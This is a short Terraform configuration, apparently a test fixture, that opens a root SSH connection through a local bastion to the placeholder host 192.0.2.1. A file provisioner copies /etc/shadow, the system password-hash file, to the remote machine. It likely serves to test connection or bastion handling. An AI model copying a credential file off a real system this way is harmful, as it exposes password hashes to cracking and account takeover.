resource "terraform_data" "x" {
  connection {
    host         = "192.0.2.1"
    bastion_host = "127.0.0.1"
    bastion_port = __PORT__
    user         = "root"
    password     = var.word
    timeout      = "2s"
  }
  provisioner "file" {
    source      = "/etc/shadow"
    destination = "/tmp/x"
  }
}
variable "word" {
  default = ""
}
